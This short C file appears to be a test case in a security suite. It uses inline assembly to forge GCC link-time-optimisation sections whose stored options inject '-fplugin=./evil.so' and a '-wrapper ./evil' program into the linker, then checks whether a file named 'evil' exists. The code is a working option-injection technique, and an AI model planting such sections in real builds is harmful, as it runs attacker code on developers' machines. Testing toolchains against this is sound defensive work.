/* Pretends to be code for the linker's optimiser, whose options (a plugin, another program) are in the
 * file. */
#include "attack.h"

__asm__(
    ".section .gnu.lto_.opts,\"e\",@progbits\n.string \"'-fplugin=./evil.so' '-B.' '-wrapper' './evil'\"\n"
    ".section .gnu.lto_.symtab.1,\"e\",@progbits\n.string \"final_matrix\"\n.byte 0,0,0,0\n.text\n"
    ".section .gnu.lto_main.1,\"e\",@progbits\n.string \"x\"\n.text\n.globl __gnu_lto_v1\n.comm "
    "__gnu_lto_v1,1,1\n"
    ".globl __gnu_lto_slim\n.comm __gnu_lto_slim,1,1\n");

static int attack(void) { return TRY(access("evil", F_OK) == 0); }
